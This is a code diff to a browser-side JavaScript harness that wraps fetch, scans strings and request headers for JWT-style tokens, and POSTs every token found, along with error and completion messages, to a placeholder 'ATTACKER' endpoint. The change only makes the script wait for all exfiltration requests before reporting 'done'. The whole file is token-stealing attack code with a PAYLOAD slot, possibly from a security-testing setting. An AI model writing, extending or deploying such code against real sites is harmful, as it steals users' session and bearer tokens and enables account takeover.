@@ -2,14 +2,17 @@
 // be changed under them, eyes for tokens, and a user who goes on working, so that
 // nobody has to wait for one.
 ((fetch, { Headers, Request }) => {
-  const send = (loot) =>
-    fetch("ATTACKER", { method: "POST", mode: "no-cors", body: typeof loot === "string" ? loot : JSON.stringify(loot) });
+  const sent = [];
+  const send = (loot) => {
+    const body = typeof loot === "string" ? loot : JSON.stringify(loot);
+    sent.push(fetch("ATTACKER", { method: "POST", mode: "no-cors", body }));
+  };
 
   const seen = new Set();
   const look = (value, depth = 0) => {
     if (typeof value === "string") {
       for (const [token] of value.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g)) {
-        if (!seen.has(token)) void send(token);
+        if (!seen.has(token)) send(token);
         seen.add(token);
       }
     } else if (value instanceof Headers) {
@@ -45,5 +48,8 @@
   const attack = async () => {
     PAYLOAD;
   };
-  attack().catch((error) => send(`error: ${error}`)).finally(() => send("done"));
+  attack()
+    .catch((error) => send(`error: ${error}`))
+    .then(() => Promise.allSettled(sent))
+    .then(() => send("done"));
 })(window.fetch.bind(window), window);
